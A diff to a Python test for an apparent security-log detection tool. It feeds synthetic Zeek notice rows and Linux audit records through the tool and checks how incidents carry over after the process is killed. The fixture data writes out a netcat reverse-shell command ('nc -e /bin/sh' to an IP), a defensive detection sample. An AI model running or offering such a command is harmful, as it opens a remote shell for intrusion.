@@ -305,14 +305,16 @@ def test_what_lines_carry_over_is_known_after_a_kill():
         return "%.6f\tC%d\t10.0.0.%d\t203.0.113.9\tIntel::Notice\tIntel hit on evil%d.example.com\tNotice::ACTION_LOG\n" % (now + i, i, i + 1, i)
     audit = "node=%s type=%%s msg=audit(%.3f:77): %%s\n" % (HOSTS[2], now)
     p.start()
-    write("notice.log", "#separator \\x09\n#path\tnotice\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tnote\tmsg\tactions\n" + row(0))
+    names = "ts\tuid\tid.orig_h\tid.resp_h\tnote\tmsg\tactions\n"
+    other = "ts\tuid\tid.orig_h\tid.resp_h\tmsg\tnote\tactions\n"
+    write("notice.log", "#separator \\x09\n#path\tnotice\n#fields\t" + other + "#open\tx\n" * 2000 + "#fields\t" + names + row(0))
     checks.that(p.wait_for(1, 10), "a row of a TSV file is an incident: %s\n%s" % (p.incidents(), p.errors()))
     write("audit.log", audit % ("SYSCALL", 'pid=7 exe="/usr/bin/nc"') + audit % ("EXECVE", 'argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="203.0.113.9"'))
     time.sleep(0.5)
     p.process.kill()
     p.process.wait()
     write("audit.log", audit % ("CWD", 'cwd="/root"') + audit % ("PROCTITLE", "proctitle=6E63"))
-    write("notice.log", row(1))
+    write("notice.log", row(1) + "#fields\t" + other)
     p.start()
     checks.that(p.findings(3) == 3 and len(p.incidents()) == 3, "the row and the record that went on are one finding each: %s\n%s" %
                 (p.incidents(), p.errors()))
